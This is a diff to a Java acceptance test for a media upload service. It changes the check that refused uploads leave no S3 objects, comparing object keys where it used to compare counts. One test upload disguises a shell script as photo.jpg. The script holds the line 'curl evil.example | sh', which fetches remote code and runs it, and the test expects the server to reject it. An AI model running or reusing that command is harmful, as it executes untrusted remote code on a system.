@@ -95,7 +95,7 @@ class MediaAcceptanceTests {
 		@Test
 		void shouldRefuseAScriptAnOversizedImageABombAndATruncatedJpegAndKeepNothing() {
 			Account user = api.newAccount();
-			long objects = objectCount();
+			java.util.Set<String> objects = objectKeys();
 
 			Response script = upload(user, "photo.jpg", "#!/bin/sh\ncurl evil.example | sh\n".getBytes());
 			assertThat(script.status()).isEqualTo(415);
@@ -114,7 +114,9 @@ class MediaAcceptanceTests {
 			Response truncated = upload(user, "cut.jpg", Arrays.copyOf(whole, whole.length / 2));
 			assertThat(truncated.status()).isEqualTo(422);
 
-			assertThat(objectCount()).isEqualTo(objects);
+			java.util.Set<String> added = new java.util.HashSet<>(objectKeys());
+			added.removeAll(objects);
+			assertThat(added).as("objects left by refused uploads").isEmpty();
 			assertThat(MurmurPlatform.get().mediaServiceHealthy()).isTrue();
 		}
 
@@ -258,9 +260,13 @@ class MediaAcceptanceTests {
 			.build();
 	}
 
-	private static long objectCount() {
+	private static java.util.Set<String> objectKeys() {
 		try (S3Client s3 = s3()) {
-			return s3.listObjectsV2Paginator((request) -> request.bucket("murmur-media")).contents().stream().count();
+			return s3.listObjectsV2Paginator((request) -> request.bucket("murmur-media"))
+				.contents()
+				.stream()
+				.map((object) -> object.key())
+				.collect(java.util.stream.Collectors.toSet());
 		}
 	}
 
